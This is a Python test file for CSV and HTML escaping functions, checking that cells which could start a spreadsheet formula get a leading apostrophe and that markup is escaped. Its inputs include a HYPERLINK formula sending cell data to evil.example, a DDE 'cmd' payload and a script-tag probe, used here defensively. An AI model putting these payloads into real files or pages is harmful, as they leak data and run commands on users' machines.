"""Escaping stored names for spreadsheets and HTML."""

from __future__ import annotations

import csv
import io

import pytest

from interchange.safe_text import for_csv, for_html

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'


@pytest.mark.parametrize(
    "text",
    [FORMULA, "+62 812", "-2+3", "@SUM(A1:A2)", "\tSiti", "\rSiti", "=", "=cmd|'/c calc'!A1"],
)
def test_a_cell_that_could_start_a_formula_gets_a_leading_apostrophe(text: str) -> None:
    assert for_csv(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["Siti Nur'aini", "Ñoño", "王小明", "", "'=already text", "Siti=Aminah", " =1+1"]
)
def test_other_cells_are_left_alone(text: str) -> None:
    assert for_csv(text) == text


def test_a_neutralised_formula_survives_a_csv_round_trip_as_text() -> None:
    buffer = io.StringIO()
    csv.writer(buffer).writerow([for_csv(FORMULA), for_csv("王小明")])
    (row,) = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert row == ["'" + FORMULA, "王小明"]


@pytest.mark.parametrize(
    ("text", "escaped"),
    [
        ("<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;"),
        ('Siti "Ami" & co', "Siti &quot;Ami&quot; &amp; co"),
        ("Siti Nur'aini", "Siti Nur&#x27;aini"),
        ("Ñoño 王小明", "Ñoño 王小明"),
        (FORMULA, FORMULA.replace('"', "&quot;").replace("&A1", "&amp;A1")),
    ],
)
def test_markup_is_escaped_for_html_and_letters_are_not(text: str, escaped: str) -> None:
    assert for_html(text) == escaped
